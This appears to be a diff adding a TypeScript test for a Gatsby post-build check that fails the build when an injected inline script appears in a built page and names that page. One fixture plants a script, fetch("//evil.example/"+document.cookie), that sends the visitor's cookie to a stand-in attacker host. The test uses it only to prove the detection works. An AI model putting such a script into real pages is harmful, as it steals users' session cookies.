@@ -1,0 +1,63 @@
+// Issue 25, F11: the build fails on any inline script the site does not write itself
+// (gatsby/inline-scripts-check.ts, run first in onPostBuild), naming the page.
+import assert from 'node:assert/strict';
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import { after, test } from 'node:test';
+import { checkInlineScriptsOnPostBuild, strayInlineScripts } from '../../../gatsby/inline-scripts-check';
+import { unbuiltReviewMarkerScript } from '../../../src/review/unbuilt';
+import { UNBUILT_MARKER_ID } from '../../../src/site-inline-scripts';
+
+const root = fs.mkdtempSync(path.join(os.tmpdir(), 'inline-scripts-'));
+after(() => fs.rmSync(root, { recursive: true, force: true }));
+
+const own =
+  '<script id="gatsby-script-loader">/*<![CDATA[*/window.pagePath="/1/2/";/*]]>*/</script>' +
+  '<script id="gatsby-chunk-mapping">/*<![CDATA[*/window.___chunkMapping="{}";/*]]>*/</script>' +
+  '<script type="application/ld+json">{"@type":"Review"}</script><script src="/review/app.js"></script>';
+
+function site(name: string, pages: Record<string, string>): string {
+  const dir = path.join(root, name, 'public');
+  for (const [rel, html] of Object.entries(pages)) {
+    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
+    fs.writeFileSync(path.join(dir, rel), html);
+  }
+  return dir;
+}
+
+/** Runs the onPostBuild check over `dir`; the reporter's panics are returned. */
+async function postBuild(dir: string): Promise<string[]> {
+  const panics: string[] = [];
+  const args = {
+    reporter: { panicOnBuild: (m: string) => panics.push(m) },
+    store: { getState: () => ({ program: { directory: path.dirname(dir) } }) },
+  };
+  await checkInlineScriptsOnPostBuild!(args as never, {} as never, () => {});
+  return panics;
+}
+
+test("a build of the site's own scripts passes", async () => {
+  const dir = site('clean', {
+    'index.html': `<html><head>${own}</head><body></body></html>`,
+    '404.html': `<html><head><script id="${UNBUILT_MARKER_ID}">${unbuiltReviewMarkerScript()}</script>${own}</head></html>`,
+    '1/2/index.html': `<html><head>${own}</head></html>`,
+  });
+  assert.deepEqual(await strayInlineScripts(dir), []);
+  assert.deepEqual(await postBuild(dir), []);
+});
+
+test('one injected inline script fails the build and names its page', async () => {
+  const dir = site('injected', {
+    'index.html': `<html><head>${own}</head></html>`,
+    '1/2/index.html': `<html><head>${own}</head><body><p>好评</p><script>fetch("//evil.example/"+document.cookie)</script></body></html>`,
+  });
+  const stray = await strayInlineScripts(dir);
+  assert.deepEqual(
+    stray.map((s) => s.file),
+    [path.join('1', '2', 'index.html')],
+  );
+  const panics = await postBuild(dir);
+  assert.equal(panics.length, 1);
+  assert.match(panics[0], /1\/2\/index\.html.*evil\.example/);
+});
